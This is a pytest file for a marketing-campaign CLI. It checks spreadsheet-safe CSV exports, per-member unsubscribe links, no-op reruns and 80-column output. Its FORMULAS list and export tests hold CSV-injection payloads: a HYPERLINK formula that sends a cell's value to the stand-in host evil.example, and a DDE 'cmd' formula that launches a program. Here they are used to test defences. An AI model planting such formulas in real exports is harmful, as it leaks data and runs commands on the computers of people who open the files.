"""What the commands write and print for people: spreadsheet-safe CSVs, the member's own unsubscribe link,
a rerun that says nothing changed and records nothing, tables and help readable at 80 columns and piped."""

from __future__ import annotations

import csv
import email
import io
import os
import subprocess
import sys
from email import policy
from pathlib import Path

import pytest
from rich.console import Console
from sqlalchemy import func, select, update

from activation.files import csv_cell
from activation.settings import REPO_ROOT
from activation.tables import customers, sync_log, sync_runs
from connectors.cli import print_result
from tests.cli_helpers import run_cli
from tests.fakes.destinations import sync_named
from tests.fakes.plan_data import AS_OF, SCHEME, SimpleContent, insert_plan, make_assignment

ROOT = Path(__file__).resolve().parents[2]
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "@SUM(1+1)",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "\tTAB",
    "\rCR",
]


def test_csv_cell_neutralises_what_a_spreadsheet_would_run_as_owasp_recommends():
    for value in FORMULAS:
        assert csv_cell(value) == "'" + value
    for value in ("Ann", "O'Brien", "-12.5", "+3", "1e-3", "", "a=b", 42, -7.5, None):
        assert csv_cell(value) == value


def _count(engine, t) -> int:
    with engine.connect() as conn:
        return conn.execute(select(func.count()).select_from(t)).scalar_one()


def test_outbox_audience_csv_neutralises_formula_first_names(duck_engine, duck_settings):
    plan = insert_plan(duck_engine, make_assignment(len(FORMULAS) * 3))
    ids = sorted(cid for ids in plan.treated.values() for cid in ids)
    with duck_engine.begin() as conn:
        for cid, name in zip(ids, FORMULAS, strict=False):
            conn.execute(update(customers).where(customers.c.customer_id == cid).values(first_name=name))
    sync_named(duck_engine, duck_settings, "outbox", AS_OF, SCHEME, content=SimpleContent())
    names = []
    for path in duck_settings.resolved_outbox_dir.rglob("audience.csv"):
        names += [row["first_name"] for row in csv.DictReader(io.StringIO(path.read_text(), newline=""))]
    for name in FORMULAS[:4]:  # (the sync strips the leading tab and CR off a first name)
        assert "'" + name in names, (name, names)
    assert not [n for n in names if n[:1] in ("=", "+", "-", "@", "\t", "\r")], names


def test_exports_neutralise_formula_values(duck_engine, duck_settings, tmp_path):
    """segments export writes customer ids as they came from the user's file; campaigns export the same."""
    from datetime import date, datetime

    from activation.tables import rfm_snapshots, snapshot_runs
    from campaigns.plan import plan_campaigns
    from segments.snapshots import export_snapshot
    from tests.campaign_helpers import insert_customers, insert_snapshot

    insert_snapshot(duck_engine, 30)
    insert_customers(duck_engine, 30)
    with duck_engine.begin() as conn:
        conn.execute(
            snapshot_runs.insert().values(
                as_of=date(2025, 12, 31),
                scheme="rfm11",
                scheme_hash="h",
                customers=30,
                cutpoints="{}",
                warnings="[]",
                created_at=datetime(2026, 1, 1),
            )
        )
        conn.execute(
            update(rfm_snapshots)
            .where(rfm_snapshots.c.customer_id == "c000001")
            .values(customer_id='=HYPERLINK("http://evil.example")')
        )
    out = tmp_path / "segments.csv"
    export_snapshot(duck_engine, date(2025, 12, 31), "rfm11", out)
    with out.open(newline="") as f:
        ids = [row["customer_id"] for row in csv.DictReader(f)]
    assert '\'=HYPERLINK("http://evil.example")' in ids
    assert not [i for i in ids if i[:1] in ("=", "+", "-", "@")]
    plan_campaigns(
        duck_engine,
        duck_settings.model_copy(update={"templates_dir": REPO_ROOT / "templates"}),
        date(2025, 12, 31),
        "rfm11",
    )
    res = run_cli("campaigns", "export", "--as-of", "2025-12-31", "--out", str(tmp_path / "c.csv"))
    assert res.exit_code == 0, res.output
    with (tmp_path / "c.csv").open(newline="") as f:
        ids = [row["customer_id"] for row in csv.DictReader(f)]
    assert '\'=HYPERLINK("http://evil.example")' in ids


def test_the_body_unsubscribe_link_is_the_members_own_like_the_header(
    engine, settings, tmp_path, monkeypatch
):
    from campaigns.plan import plan_campaigns
    from tests.campaign_helpers import AS_OF as PLAN_AS_OF
    from tests.campaign_helpers import insert_customers, insert_snapshot, private_templates

    s = private_templates(settings, tmp_path, monkeypatch)
    insert_snapshot(engine, 60)
    insert_customers(engine, 60)
    plan_campaigns(engine, s, PLAN_AS_OF, "rfm11")
    sync_named(engine, s, "outbox", PLAN_AS_OF, "rfm11")
    links = set()
    for path in s.resolved_outbox_dir.rglob("*.eml"):
        msg = email.message_from_bytes(path.read_bytes(), policy=policy.default)
        header = str(msg["List-Unsubscribe"]).split(">")[0].lstrip("<")
        assert "u=" in header and "c=" in header
        assert header.replace("&", "&amp;") in msg.get_body(("html",)).get_content()
        assert header in msg.get_body(("plain",)).get_content()
        links.add(header)
    assert len(links) > 10  # one per recipient, not the generic link for everyone


def test_a_rerun_that_changes_nothing_says_so_and_records_nothing(duck_engine, duck_settings):
    insert_plan(duck_engine, make_assignment(20), emails={"c00003": "not-an-email", "c00007": None})
    first = sync_named(
        duck_engine, duck_settings, "outbox", AS_OF, SCHEME, content=SimpleContent(), send=True
    )
    assert first.status == "succeeded"
    runs, log = _count(duck_engine, sync_runs), _count(duck_engine, sync_log)
    again = sync_named(
        duck_engine, duck_settings, "outbox", AS_OF, SCHEME, content=SimpleContent(), send=True
    )
    assert again.status == "unchanged" and again.write_calls == 0
    assert (_count(duck_engine, sync_runs), _count(duck_engine, sync_log)) == (runs, log)
    out = io.StringIO()
    print_result(Console(file=out, width=80), again)
    assert "nothing changed since the last sync to outbox: no write, no run recorded" in out.getvalue()
    # a real change is still synced and recorded
    with duck_engine.begin() as conn:
        conn.execute(
            update(customers).where(customers.c.customer_id == "c00001").values(first_name="Changed")
        )
    third = sync_named(
        duck_engine, duck_settings, "outbox", AS_OF, SCHEME, content=SimpleContent(), send=True
    )
    assert third.status == "succeeded" and _count(duck_engine, sync_runs) == runs + 1


def test_sync_table_fits_80_columns_and_its_calls_add_up(duck_engine, duck_settings):
    segments = ("Potential Loyalists", "Can't Lose Them", "About To Sleep")
    insert_plan(duck_engine, make_assignment(1200, segments), emails={"c00001": "broken@"})
    res = sync_named(
        duck_engine, duck_settings, "mailchimp", AS_OF, SCHEME, content=SimpleContent(), dry_run=True
    )
    out = io.StringIO()
    print_result(Console(file=out, width=80), res)
    text = out.getvalue()
    assert "…" not in text and max(len(line) for line in text.splitlines()) <= 80, text
    rows = [
        line.split()
        for line in text.splitlines()
        if line and line.split()[-1].replace(",", "").isdigit() and not line.startswith(("API", "skipped:"))
    ]
    column = sum(int(r[-1].replace(",", "")) for r in rows)
    assert f"API calls (estimated): {column:,}" in text, text
    assert "invalid email 1" in text


def _cli(args: list[str], env: dict[str, str], cwd: Path) -> subprocess.CompletedProcess[str]:
    """The command as a user runs it, piped, on an 80-column terminal."""
    return subprocess.run(
        [sys.executable, "-m", "activation.cli", *args],
        env={**env, "COLUMNS": "80"},
        cwd=cwd,
        capture_output=True,
        text=True,
        timeout=300,
    )


def test_plan_table_is_readable_at_80_columns_piped(tmp_path):
    from datetime import date

    from activation.settings import Settings
    from activation.warehouse import dispose_engines, get_engine
    from segments.demo_data import generate
    from segments.ingest import ingest_file
    from segments.snapshots import compute_snapshot

    settings = Settings(data_dir=tmp_path / "data", coupon_secret="t")  # type: ignore[arg-type]
    files = generate(tmp_path / "demo", customers=300, orders=2500, seed=4)
    ingest_file(get_engine(settings), settings, files.orders, "parquet", mapping_path=files.mapping)
    compute_snapshot(get_engine(settings), settings, date(2025, 6, 30), "rfm11")
    dispose_engines()
    env = {k: v for k, v in os.environ.items() if not k.startswith("ACTIVATION_")}
    env.update(PYTHONPATH=str(ROOT), ACTIVATION_DATA_DIR=str(tmp_path / "data"), ACTIVATION_COUPON_SECRET="t")
    res = _cli(["plan", "--as-of", "2025-06-30"], env, tmp_path)
    assert res.returncode == 0, res.stderr
    lines = res.stdout.splitlines()
    assert "…" not in res.stdout and max(len(line) for line in lines) <= 80, res.stdout
    body = " ".join(res.stdout.split())
    for word in ("segment", "status", "treated", "holdout", "excluded", "offer", "Champions", "Hibernating"):
        assert word in body, word
    # an offer is read in a few lines, not one word per line (it took 7-8 lines a segment)
    body_lines = [line for line in lines if line.startswith("│")][1:]
    assert len(body_lines) <= 3 * 11, res.stdout


COMMANDS = [
    [],
    ["ingest"],
    ["demo-data"],
    ["segment"],
    ["segments", "export"],
    ["segments", "migration"],
    ["templates", "check"],
    ["templates", "preview"],
    ["plan"],
    ["campaigns", "export"],
    ["sync"],
    ["outcomes", "collect"],
    ["report", "roi"],
    ["demo"],
    ["run", "quarterly"],
    ["run", "activate"],
    ["clv", "fit"],
    ["segments"],
    ["templates"],
    ["campaigns"],
    ["run"],
]


@pytest.mark.parametrize("command", COMMANDS, ids=[" ".join(c) or "activation" for c in COMMANDS])
def test_help_at_80_columns_cuts_nothing_and_flags_take_no_value(command, monkeypatch):
    monkeypatch.setenv("COLUMNS", "80")
    res = run_cli(*command, "--help")
    assert res.exit_code == 0, res.output
    assert "<bool>" not in res.output, res.output
    assert "…" not in res.output, res.output
    if command == ["sync"]:
        line = next(line for line in res.output.splitlines() if "--dry-run" in line)
        assert "<" not in line, line


def test_templates_check_refuses_a_holdout_share_that_treats_nobody(duck_settings, tmp_path, monkeypatch):
    from tests.campaign_helpers import private_templates

    s = private_templates(duck_settings, tmp_path, monkeypatch)
    policy_file = Path(s.templates_dir) / "policy.yaml"
    text = policy_file.read_text()
    assert "holdout_share: 0.1" in text
    policy_file.write_text(text.replace("holdout_share: 0.1", "holdout_share: 1.0", 1))
    res = run_cli("templates", "check")
    assert res.exit_code == 1, res.output
    line = next(line for line in res.stdout.splitlines() if "holdout_share" in line)
    assert line.startswith("templates/policy.yaml:") or "policy.yaml:" in line, line
    assert "treats nobody" in " ".join(res.stdout.split())
